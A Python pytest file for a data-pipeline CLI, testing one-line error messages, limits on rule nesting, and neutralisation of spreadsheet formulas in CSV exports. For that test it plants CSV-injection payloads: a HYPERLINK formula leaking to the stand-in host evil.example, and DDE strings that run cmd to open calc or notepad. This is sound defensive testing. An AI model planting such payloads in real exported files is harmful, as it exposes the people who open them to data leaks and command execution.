"""Issue #11, defects 9 and 10: one-line refusals from every command, and CSV exports a spreadsheet
cannot run.

The command line runs for real as a subprocess (stderr not a terminal, as under a scheduler):
a refusal is exactly one line on stderr naming its cause, exit status 1, with the trace only
under --verbose; a run or replay that succeeds leaves stderr empty (no progress lines, no
Prefect or Great Expectations log lines).
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from aftersales.analytics.csv_safety import is_formula_like, neutralise_cell, neutralised_sql
from aftersales.policy.expressions import MAX_NESTING, PolicyPackError, validate_condition
from aftersales.warehouse_schema import create_result_tables

ROOT = Path(__file__).resolve().parent.parent
SAMPLE_INBOX = ROOT / "data" / "sample" / "inbox"
BATCH_DATE = "2026-11-27"
SHOP = "USLC5VX9P6"  # US local shop of the sample inbox
SHOPS_HEADER = "Shop ID,Shop Name,Market,Program,Ship From,Timezone,Chatbots Enabled\n"
PLANTED_REASONS = (
    '=HYPERLINK("http://evil.example/?leak","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
)


def aftersales(*args: str, api_url: str | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    """The real command line in a child process, stderr captured (not a terminal).

    With `api_url`, flows report to the session's Prefect test server instead of each child
    starting its own temporary server (half the cost of a run).
    """
    env = {k: v for k, v in os.environ.items() if k not in ("AFTERSALES_VERBOSE", "PYTHONWARNINGS")}
    if api_url:
        env["PREFECT_API_URL"] = api_url
    return subprocess.run(
        [sys.executable, "-m", "aftersales.cli", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def assert_one_line_refusal(result: subprocess.CompletedProcess, *causes: str) -> str:
    lines = result.stderr.splitlines()
    assert result.returncode == 1, (result.returncode, result.stderr[-2000:])
    assert len(lines) == 1, result.stderr[-3000:]
    line = lines[0]
    assert line.startswith("error: "), line
    assert "Traceback" not in result.stderr and "great_expectations" not in result.stderr
    for cause in causes:
        assert cause in line, (cause, line)
    return line


def shops_csv(folder: Path, *rows: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "shops.csv").write_text(SHOPS_HEADER + "".join(r + "\n" for r in rows), encoding="utf-8")
    return folder


def candidate_rules_with_deep_condition(tmp_path: Path, depth: int) -> Path:
    rules = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", rules)
    policy = rules / "us_local" / "policy.yaml"
    text = policy.read_text(encoding="utf-8")
    original = 'when: "NOT order_found OR NOT request_found"'
    assert original in text
    deep = "(" * depth + "order_found" + ")" * depth
    policy.write_text(text.replace(original, f'when: "NOT {deep} OR NOT request_found"', 1), encoding="utf-8")
    return rules


@pytest.fixture(scope="module")
def api_url(prefect_harness) -> str:
    from prefect.settings import PREFECT_API_URL

    return PREFECT_API_URL.value()


# ------------------------------------------------------------------ refusals inside the flow


def test_unknown_market_and_time_zone_in_shops_csv_is_one_line_without_prefect_traceback(tmp_path, api_url):
    inbox = shops_csv(
        tmp_path / "inbox",
        f"{SHOP},Sunny Trail Outfitters,ZZ,local,US,America/Los_Angeles,true",
        "GBLCVH2KQT,Brick Lane Home,UK,local,GB,Mars/Olympus_Mons,false",
    )
    result = aftersales(
        "run", "--inbox", str(inbox), "--db", str(tmp_path / "wh" / "a.duckdb"), "--batch-date", BATCH_DATE,
        api_url=api_url,
    )  # fmt: skip
    line = assert_one_line_refusal(result, "shops.csv", "'ZZ'", "Mars/Olympus_Mons")
    assert "ERROR" not in line and "Task run" not in result.stderr
    assert not (tmp_path / "wh" / "a.duckdb").exists()  # a refused batch publishes nothing


# ------------------------------------------------------------------ refusals before the flow


def read_only_warehouse_folder(tmp_path: Path) -> Path:
    """A warehouse folder this process cannot write: chmod for a normal user, sysfs for root."""
    if os.geteuid() != 0:
        folder = tmp_path / "locked"
        folder.mkdir()
        folder.chmod(0o555)
        return folder
    probe = Path("/sys") / "aftersales-probe"
    try:
        probe.mkdir()
    except OSError:
        return probe  # sysfs refuses new folders even to root: a read-only parent
    probe.rmdir()
    pytest.skip("running as root with no read-only file system to point at")


def test_read_only_warehouse_folder_is_refused_before_the_flow_with_one_line(tmp_path):
    folder = read_only_warehouse_folder(tmp_path)
    try:
        result = aftersales(
            "run", "--inbox", str(SAMPLE_INBOX), "--db", str(folder / "a.duckdb"), "--batch-date", BATCH_DATE
        )
    finally:
        if folder.is_relative_to(tmp_path):
            folder.chmod(0o755)
    assert_one_line_refusal(result, "warehouse folder", str(folder))


def test_too_deeply_nested_rule_is_a_lint_problem_naming_pack_and_rule_never_a_recursion_error(tmp_path):
    rules = candidate_rules_with_deep_condition(tmp_path, 1900)  # the whole condition stays < 4000 chars
    lint = aftersales("rules", "lint", "--rules", str(rules))
    assert_one_line_refusal(lint, "us_local", "us.case_data_missing", "nests")
    assert "us.case_data_missing" in lint.stdout  # the problem list itself goes to stdout
    run = aftersales(
        "run", "--inbox", str(SAMPLE_INBOX), "--db", str(tmp_path / "a.duckdb"), "--batch-date", BATCH_DATE,
        "--rules", str(rules),
    )  # fmt: skip
    assert_one_line_refusal(run, "invalid rule pack", "us.case_data_missing")
    for result in (lint, run):
        assert "RecursionError" not in result.stderr + result.stdout


@pytest.mark.parametrize(
    "args, causes",
    [
        (
            ["export", "--db", "{tmp}/missing.duckdb", "--out", "{tmp}/out"],
            ["missing.duckdb", "does not exist"],
        ),
        (["explain", "403084933379717803", "--db", "{tmp}/missing.duckdb"], ["missing.duckdb"]),
        (["serve", "--timezone", "Mars/Olympus_Mons", "--no-ui"], ["Mars/Olympus_Mons"]),
        (
            [
                "backfill",
                "--from",
                BATCH_DATE,
                "--to",
                BATCH_DATE,
                "--inbox",
                "{tmp}/no-inbox",
                "--db",
                "{tmp}/w.duckdb",
            ],
            ["no inbox", "no-inbox"],
        ),
        (["generate", "--out", "{tmp}/file.txt/inbox", "--shops", "1", "--orders", "5"], ["file.txt"]),
        (["rules", "test", "--pack", "us_locall"], ["no pack us_locall", "us_local"]),  # not 0/0 passed
        # a control character in a quoted name is shown escaped: it cannot rewrite the line
        (["explain", "1", "--db", "{tmp}/evil\r\x1b[2Kname.duckdb"], ["evil\\r\\x1b[2Kname.duckdb"]),
    ],
    ids=["export", "explain", "serve", "backfill", "generate", "unknown-pack", "control-characters"],
)
def test_cheap_refusals_of_every_command_are_one_line(tmp_path, args, causes):
    (tmp_path / "file.txt").write_text("not a folder\n", encoding="utf-8")
    result = aftersales(*[a.format(tmp=tmp_path) for a in args])
    assert_one_line_refusal(result, *causes)


def test_verbose_after_the_command_works_and_shows_the_trace(tmp_path):
    warehouse = tmp_path / "empty.duckdb"
    con = duckdb.connect(str(warehouse))
    create_result_tables(con)
    con.close()
    args = ["replay", "--rules", str(ROOT / "rules"), "--from", "2020-01-01", "--to", "2020-01-02"]
    quiet = aftersales(*args, "--db", str(warehouse))
    assert_one_line_refusal(quiet, "no stored cases between 2020-01-01 and 2020-01-02", str(warehouse))
    loud = aftersales(*args, "--db", str(warehouse), "--verbose")  # flag after the command
    assert loud.returncode == 1, loud.stderr
    assert "Traceback" in loud.stderr and "ReplayError" in loud.stderr
    assert loud.stderr.splitlines()[-1] == quiet.stderr.strip()
    assert "--verbose" in aftersales("run", "--help").stdout


def test_a_usage_error_is_one_line_too_with_exit_status_2():
    result = aftersales("run", "--batch-date", "2026-02-30")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "'--batch-date'" in result.stderr
    assert "aftersales run --help" in result.stderr


# ------------------------------------------------------------------ rule-condition bounds (no CLI)


@pytest.mark.parametrize(
    "shape",
    [
        lambda n: "(" * n + "order_found" + ")" * n,
        lambda n: "NOT " * n + "order_found",
        lambda n: "CASE WHEN order_found THEN " * n + "true" + " END" * n,
        lambda n: "lower(" * n + "return_status" + ")" * n + " = 'a'",
        lambda n: "coalesce(" * n + "order_found" + ", true)" * n,
        lambda n: "NOT (" * n + "order_found" + ")" * n,
    ],
    ids=["parens", "not", "case", "function", "coalesce", "not-parens"],
)
def test_any_nesting_is_accepted_or_refused_naming_the_rule_never_a_recursion_error(shape):
    assert validate_condition(shape(3), "pack p, rule r")  # ordinary depth is fine
    for depth in (MAX_NESTING + 1, 40, 200, 900):
        text = shape(depth)
        if len(text) > 4000:
            continue
        with pytest.raises(PolicyPackError, match="pack p, rule r: condition nests"):
            validate_condition(text, "pack p, rule r")


def test_unterminated_string_in_a_condition_is_a_parse_problem():
    with pytest.raises(PolicyPackError, match="pack p, rule r: condition does not parse"):
        validate_condition("return_status = '" + "(" * 50, "pack p, rule r")


# ------------------------------------------------------------------ CSV neutralisation


TRICKY = [
    '=HYPERLINK("http://x","a")', "+1", "-5", "@SUM(A1)", "\tx", "\rx", " =1", "\n=1", "\u3000=1",
    "\xa0+1", "\uff1d1+1", "normal", "", "a=b", "'=x", "\x85-1", "1-2", "  ", "e=mc2",
]  # fmt: skip


def test_python_and_duckdb_neutralise_the_same_cells():
    con = duckdb.connect()
    con.execute("CREATE TABLE t (v VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?)", [[v] for v in TRICKY])
    got = [r[0] for r in con.execute(f"SELECT {neutralised_sql('v')} FROM t ORDER BY rowid").fetchall()]
    assert got == [neutralise_cell(v) for v in TRICKY]
    assert [v for v in TRICKY if is_formula_like(v)] == [
        v for v, g in zip(TRICKY, got, strict=True) if g != v
    ]
    assert neutralise_cell(-5) == -5 and neutralise_cell(None) is None  # only text is touched


# ------------------------------------------------------------------ one real night, then replay/export


@pytest.fixture(scope="module")
def published(tmp_path_factory, api_url) -> Path:
    """One shop of the sample inbox with formulas planted in its appeal reasons, run for real."""
    root = tmp_path_factory.mktemp("hostile-night")
    inbox = root / "inbox"
    shutil.copytree(SAMPLE_INBOX / SHOP, inbox / SHOP)
    registry = (SAMPLE_INBOX / "shops.csv").read_text(encoding="utf-8").splitlines()
    (inbox / "shops.csv").write_text(
        "\n".join([registry[0]] + [r for r in registry[1:] if r.startswith(SHOP)]) + "\n", encoding="utf-8"
    )
    appeals = inbox / SHOP / "after-sales" / "appeals.csv"
    with open(appeals, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    reason = rows[0].index("Appeal Reason")
    for row, planted in zip(rows[1:], PLANTED_REASONS, strict=False):
        row[reason] = planted
    with open(appeals, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    warehouse = root / "wh" / "aftersales.duckdb"
    result = aftersales(
        "run", "--inbox", str(inbox), "--db", str(warehouse), "--batch-date", BATCH_DATE,
        "--report-dir", str(root / "reports"), api_url=api_url,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stderr == ""  # not a terminal: no progress line, no log line
    return warehouse


def test_successful_replay_prints_nothing_on_stderr_and_empty_range_is_one_line(published, api_url):
    rules = str(ROOT / "rules")
    ok = aftersales(
        "replay", "--rules", rules, "--from", BATCH_DATE, "--to", BATCH_DATE, "--db", str(published), api_url=api_url
    )  # fmt: skip
    assert ok.returncode == 0, ok.stderr[-3000:]
    assert ok.stderr == ""  # no Great Expectations INFO line about temporary folders
    empty = aftersales(
        "replay", "--rules", rules, "--from", "2026-01-01", "--to", "2026-01-31", "--db", str(published)
    )
    assert_one_line_refusal(empty, "no stored cases between 2026-01-01 and 2026-01-31")


def read_csv_tables(folder: Path) -> dict[str, tuple[list[str], list[list[str]]]]:
    tables = {}
    for table_dir in sorted(p for p in folder.iterdir() if p.is_dir()):
        header, rows = None, []
        for part in sorted(table_dir.glob("*/*.csv")):
            with open(part, encoding="utf-8", newline="") as fh:
                reader = csv.reader(fh)
                header = next(reader)
                rows += list(reader)
        if header is not None:
            tables[table_dir.name] = (header, rows)
    return tables


def test_csv_export_neutralises_planted_formulas_and_keeps_numbers_while_parquet_stays_exact(
    published, tmp_path
):
    con = duckdb.connect(str(published), read_only=True)
    try:
        stored = {r[0] for r in con.execute("SELECT appeal_reason FROM case_features").fetchall()}
        types = {
            (t, c): d
            for t, c, d in con.execute(
                "SELECT table_name, column_name, data_type FROM duckdb_columns() WHERE NOT internal"
            ).fetchall()
        }
    finally:
        con.close()
    planted = [p for p in PLANTED_REASONS if p in stored]
    assert planted, "the planted appeal reasons should reach case_features"

    out = tmp_path / "csv"
    result = aftersales("export", "--format", "csv", "--db", str(published), "--out", str(out))
    assert result.returncode == 0 and result.stderr == "", result.stderr
    tables = read_csv_tables(out)
    header, rows = tables["case_features"]
    reasons = [row[header.index("appeal_reason")] for row in rows]
    for value in planted:
        assert "'" + value in reasons and value not in reasons
    negatives = 0
    for table, (header, rows) in tables.items():
        for i, column in enumerate(header):
            cells = [row[i] for row in rows]
            if types.get((table, column)) == "VARCHAR":
                assert not any(is_formula_like(c) for c in cells), (table, column)
            else:  # typed columns are written as DuckDB writes them: numbers stay numbers
                assert not any(c.startswith("'") for c in cells), (table, column)
                negatives += sum(c.startswith("-") and c[1:2].isdigit() for c in cells)
    assert negatives > 0, "the night should hold negative numbers (points, business days)"

    parquet = tmp_path / "parquet"
    assert (
        aftersales(
            "export", "--db", str(published), "--out", str(parquet), "--tables", "case_features"
        ).returncode
        == 0
    )
    con = duckdb.connect()
    exact = {
        r[0]
        for r in con.execute(
            f"SELECT appeal_reason FROM read_parquet('{parquet}/case_features/*/*.parquet', hive_partitioning = true)"
        ).fetchall()
    }
    assert exact == stored  # Parquet is typed: the text is kept exactly, no quote added
